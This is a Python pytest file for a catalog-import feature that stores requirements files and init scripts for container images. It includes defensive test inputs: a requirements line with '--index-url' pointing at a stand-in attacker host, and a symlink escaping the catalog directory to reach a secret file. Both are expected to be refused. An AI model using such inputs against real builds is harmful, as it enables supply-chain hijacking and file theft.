"""The files a catalog names: read next to the catalog file at import (never outside its directory), checked,
stored by sha256 (one transaction with the catalog), changed content = changed spec, unreferenced files pruned."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from bot.cli.images import catalog_dir_reader
from bot.config import load_config
from bot.domain.dockerfile import spec_hash
from bot.errors import InvalidInput, InvalidInputs
from bot.ops.catalog import add_image, import_catalog
from bot.ops.catalog_files import build_files
from bot.services import Services

CATALOG = """
[[image]]
name = "team"
base = "databricksruntime/standard:15.4-LTS"
repository = "127.0.0.1:5000/team"
requirements = ["requirements/team.txt"]
init_scripts = ["init/start.sh"]
"""


@pytest.fixture
def catalog_dir(tmp_path: Path) -> Path:
    root = tmp_path / "catalog"
    (root / "requirements").mkdir(parents=True)
    (root / "init").mkdir()
    (root / "requirements" / "team.txt").write_text("pandas==2.2.2  # pinned\n")
    (root / "init" / "start.sh").write_text("#!/bin/sh\necho hi\n")
    return root


@pytest.fixture
def services(tmp_path: Path) -> Services:
    return Services.from_config(load_config({"DCS_DB": str(tmp_path / "dcs.db")}))


def test_import_stores_the_checked_files_and_a_change_changes_the_spec(services: Services, catalog_dir: Path) -> None:
    import_catalog(services, CATALOG, source="c.toml", prune=False, actor="t", files=catalog_dir_reader(catalog_dir))
    spec = services.store.get_image("team")
    files = build_files(services, spec)
    assert files == {"requirements/team.txt": b"pandas==2.2.2\n", "init/start.sh": b"#!/bin/sh\necho hi\n"}
    before = spec_hash(spec)
    (catalog_dir / "requirements" / "team.txt").write_text("pandas==2.2.3\n")
    # the stored copy is what builds use until the catalog is imported again
    assert build_files(services, services.store.get_image("team"))["requirements/team.txt"] == b"pandas==2.2.2\n"
    import_catalog(services, CATALOG, source="c.toml", prune=False, actor="t", files=catalog_dir_reader(catalog_dir))
    again = services.store.get_image("team")
    assert build_files(services, again)["requirements/team.txt"] == b"pandas==2.2.3\n"
    assert spec_hash(again) != before
    # the old requirements file is no longer kept
    rows = services.store.query("SELECT COUNT(*) AS n FROM catalog_files")
    assert rows[0]["n"] == 2


def test_a_bad_file_refuses_the_whole_import_naming_image_file_and_line(services: Services, catalog_dir: Path) -> None:
    (catalog_dir / "requirements" / "team.txt").write_text("pandas\n--index-url https://evil.example/simple/\n")
    with pytest.raises(InvalidInput) as caught:
        import_catalog(services, CATALOG, source="c", prune=False, actor="t", files=catalog_dir_reader(catalog_dir))
    assert caught.value.field == "image[team].requirements: requirements/team.txt line 2"
    assert caught.value.reason == "is a pip option"
    assert services.store.image_names() == []


def test_files_outside_the_catalog_directory_are_refused(services: Services, catalog_dir: Path, tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("hunter2\n")
    os.symlink(secret, catalog_dir / "init" / "start.sh.link")
    text = CATALOG.replace('"init/start.sh"', '"init/start.sh.link"')
    with pytest.raises((InvalidInput, InvalidInputs)) as caught:
        import_catalog(services, text, source="c", prune=False, actor="t", files=catalog_dir_reader(catalog_dir))
    assert "is outside the catalog's directory" in caught.value.message
    assert "hunter2" not in caught.value.message
    missing = CATALOG.replace('"init/start.sh"', '"init/nope.sh"')
    with pytest.raises(InvalidInput) as caught:
        import_catalog(services, missing, source="c", prune=False, actor="t", files=catalog_dir_reader(catalog_dir))
    assert caught.value.field == "init/nope.sh" and caught.value.reason.startswith("cannot be read")


def test_files_come_only_with_a_catalog_file(services: Services) -> None:
    with pytest.raises(InvalidInput) as caught:
        add_image(
            services,
            {
                "name": "x",
                "base": "databricksruntime/standard:15.4-LTS",
                "repository": "r.io/x",
                "init_scripts": ["a.sh"],
            },
            actor="U1",
        )
    assert "dcs catalog import" in caught.value.fix
    with pytest.raises((InvalidInput, InvalidInputs)) as caught:
        import_catalog(services, CATALOG, source="-", prune=False, actor="t")  # from stdin: no directory
    assert "came without a directory" in caught.value.message
